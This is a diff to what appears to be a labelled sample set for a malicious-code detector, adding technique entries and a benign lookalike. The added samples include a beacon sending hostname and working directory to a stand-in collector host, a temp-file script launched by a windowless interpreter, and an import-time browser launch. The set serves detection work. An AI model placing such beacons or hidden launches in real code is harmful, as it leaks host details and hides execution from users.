@@ -718,6 +718,28 @@ TECHNIQUES = [
         "    _assets()\n",
         "download-execute.drop-and-run",
     ),
+    (
+        "host-details-beacon-to-a-collector-on-its-own-port",
+        "import os, socket, requests\nfrom urllib.parse import urlencode\n"
+        "SERVER = 'http://collect.example.invalid:4242/api/log'\n"
+        "def notify():\n"
+        "    q = urlencode({'host': socket.gethostname(), 'cwd': os.getcwd()})\n"
+        "    requests.get(f'{SERVER}?{q}', timeout=5)\n",
+        "exfiltration.host-info",
+    ),
+    (
+        "embedded-script-run-by-a-windowless-interpreter-on-import",
+        "from tempfile import NamedTemporaryFile\nfrom os import system\n"
+        "CODE = b\"print('inert sample')\"\n"
+        "t = NamedTemporaryFile(delete=False)\nt.write(CODE)\nt.close()\n"
+        "system(f'start pythonw.exe {t.name}')\n",
+        "hidden-process.detached",
+    ),
+    (
+        "browser-sent-to-a-page-on-import",
+        "import os\nprint('hello')\nos.system('start https://promo.example.invalid')\n",
+        "startup-hook.import-process",
+    ),
 ]
 
 
@@ -931,6 +953,13 @@ LOOKALIKES = [
         "    ns = {}\n"
         "    exec(compile(code, '<template>', 'exec'), ns)\n"
         "    return ns\n",
+    ),
+    (
+        "telemetry-with-host-details-to-the-vendors-https-api",
+        "import platform, requests\n"
+        "def report():\n"
+        "    requests.post('https://telemetry.example.invalid/v1/events',"
+        " json={'os': platform.platform()})\n",
     ),
 ]
 
